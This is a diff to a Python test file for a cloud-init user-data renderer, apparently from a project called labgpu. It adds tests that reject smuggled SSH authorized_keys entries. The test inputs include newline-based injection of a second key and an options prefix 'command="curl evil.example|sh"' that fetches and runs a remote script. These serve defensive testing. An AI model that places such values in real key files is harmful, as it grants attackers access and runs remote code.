@@ -3,10 +3,11 @@ from __future__ import annotations
 import pytest
 
 from labgpu.providers.cloudinit import AGENT_ENV_PATH, parse_user_data, render_user_data
+from labgpu.providers.tests.ssh_fixtures import ED25519, RSA
 
 yaml = pytest.importorskip("yaml")
 
-KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests alice@lab"
+KEY = ED25519
 
 
 def render(**overrides):
@@ -65,8 +66,33 @@ def test_values_that_could_escape_their_line_are_refused(overrides):
         render(**overrides)
 
 
+@pytest.mark.security
+@pytest.mark.parametrize(
+    "key",
+    [
+        f"{ED25519}\n{RSA}",  # a second authorized_keys line
+        f"{ED25519}\r{RSA}",
+        f"{ED25519}\u2028{RSA}",
+        f'command="curl evil.example|sh" {ED25519}',
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests alice@lab",
+    ],
+    ids=["newline", "cr", "line-separator", "options", "fake-body"],
+)
+def test_the_writer_refuses_anything_but_one_real_key_per_entry(key):
+    """Issue 22 item 8: a key stored before the API parsed keys still cannot add a line."""
+    with pytest.raises(ValueError, match="not one OpenSSH public key"):
+        render(ssh_authorized_keys=[ED25519, key])
+
+
+@pytest.mark.security
+def test_each_key_is_written_as_the_line_rebuilt_from_its_parts():
+    doc = yaml.safe_load(render(ssh_authorized_keys=[f"  {RSA}  ", ED25519]))
+
+    assert doc["ssh_authorized_keys"] == [RSA, ED25519]
+
+
 def test_user_data_over_64_kib_is_refused():
-    many_keys = [f"ssh-ed25519 {'A' * 180} key{i}" for i in range(400)]
+    many_keys = [f"{RSA[: -len('bob@workstation')]}key{i}" for i in range(400)]
     with pytest.raises(ValueError, match="64 KiB"):
         render(ssh_authorized_keys=many_keys)
 
